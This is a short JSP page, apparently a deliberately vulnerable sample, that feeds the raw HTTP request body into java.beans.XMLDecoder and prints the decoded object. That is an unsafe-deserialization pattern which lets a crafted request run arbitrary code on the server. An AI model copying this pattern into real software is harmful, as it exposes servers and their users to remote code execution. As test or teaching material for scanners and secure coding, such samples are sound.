<%@ page inert %>
<%@ page import="java.beans.XMLDecoder,java.io.*" %>
<%
XMLDecoder d = new XMLDecoder(new BufferedInputStream(request.getInputStream()));
try { out.print(d.readObject()); } finally { d.close(); }
%>
